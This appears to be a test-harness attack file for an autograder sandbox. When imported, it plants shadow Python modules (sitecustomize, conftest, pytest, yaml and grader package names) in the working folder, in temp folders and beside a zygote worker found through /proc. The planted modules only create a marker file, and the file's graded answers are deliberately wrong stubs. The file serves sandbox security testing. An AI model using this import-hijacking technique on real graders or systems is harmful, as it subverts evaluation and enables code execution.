"""Attack: plant modules where the grader (or the next Python) might import them.

At import, each write failing quietly:

- in its working folder and its own folder: sitecustomize.py, usercustomize.py,
  conftest.py, pytest.py, yaml.py, wire.py, confine.py, and packages autograder/,
  reference/ and gradescope_utils/ (a grader that ever imports from the student's
  folder, or runs pytest there, runs them);
- in /tmp, /var/tmp and /dev/shm: sitecustomize.py, usercustomize.py, conftest.py,
  pytest.py and yaml.py (for any Python started there);
- beside the zygote's worker.py (found in /proc/PID/cmdline by "--zygote"): a few lines
  appended to its wire.py, confine.py and worker.py.

Every planted module creates the harness's pwned_path (a harmless file) when imported;
top-level modules then import the real module in their place (their folder left out of
sys.path meanwhile), so nothing else breaks. Every answer is wrong: 0 points.
"""

import json
import os

import numpy as np

HERE = os.path.dirname(os.path.abspath(__file__))
try:
    with open(os.path.join(HERE, "agconfig.json")) as _stream:
        CONFIG = json.load(_stream)
except (OSError, ValueError):
    CONFIG = {}
MARKER = CONFIG.get("marker", "AGMARK-shadow_modules")
PWNED = CONFIG.get("pwned_path", "/tmp/PWNED_shadow_modules")
MARK = f"""
try:  # {MARKER}: a planted module ran
    open({PWNED!r}, "a").close()
except OSError:
    pass
"""
FALL_THROUGH = MARK + """import os as _os, sys as _sys
_self = _sys.modules.get(__name__)
_here, _saved = _os.path.dirname(_os.path.abspath(__file__)), _sys.path[:]
_sys.path[:] = [_p for _p in _sys.path if _os.path.abspath(_p or ".") != _here]
_sys.modules.pop(__name__, None)
try:
    _sys.modules[__name__] = __import__(__name__)
except ImportError:
    _sys.modules[__name__] = _self
finally:
    _sys.path[:] = _saved
"""
TOP_LEVEL = ("sitecustomize", "usercustomize", "conftest", "pytest", "yaml")
LOG = []


def plant(path, text, mode="x"):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, mode) as stream:
            stream.write(text)
        LOG.append(f"planted {path}")
    except OSError as error:
        LOG.append(f"{path}: {error.strerror}")


def zygote_folders():
    folders = []
    for entry in os.listdir("/proc"):
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as stream:
                args = [a.decode("utf-8", "replace") for a in stream.read().split(b"\0")]
        except OSError:
            continue
        if "--zygote" in args:
            folders += [os.path.dirname(a) for a in args if a.endswith("worker.py")]
    return list(dict.fromkeys(folders))


def attack():
    for folder in dict.fromkeys([os.getcwd(), HERE]):
        for name in (*TOP_LEVEL, "wire", "confine"):
            plant(os.path.join(folder, f"{name}.py"), FALL_THROUGH)
        for package in ("autograder", "questions", "reference", "gradescope_utils"):
            plant(os.path.join(folder, package, "__init__.py"), MARK)
    for folder in ("/tmp", "/var/tmp", "/dev/shm"):
        for name in TOP_LEVEL:
            plant(os.path.join(folder, f"{name}.py"), FALL_THROUGH)
    for folder in zygote_folders():
        for name in ("wire.py", "confine.py", "worker.py"):
            if os.path.isfile(os.path.join(folder, name)):
                plant(os.path.join(folder, name), MARK, mode="a")


try:
    attack()
except Exception as _error:  # noqa: BLE001
    LOG.append(repr(_error))
print("shadow_modules:", "; ".join(LOG)[:3000])


def rnn_a_shapes(s_dim=2, x_dim=2, p_dim=2):
    return {"W_ss": (1, 1), "W_sx": (1, 1), "W_o": (1, 1)}


def rnn_a_dloss_dx(W_ss, W_sx, W_o, x_t, dloss_dz2):
    return np.zeros_like(x_t)


def rnn_b_shapes(s_dim=2, x_dim=2, p_dim=2):
    return {"W_ssx": (1, 1), "W_ox": (1, 1)}


def rnn_b_f2(z):
    return z


def rnn_b_next_input(p_t):
    return np.zeros_like(p_t)


def rnn_b_dloss_dx_depends_on():
    return {"W_ox": False, "all_W_ox": False, "W_ssx": False, "all_W_ssx": True}
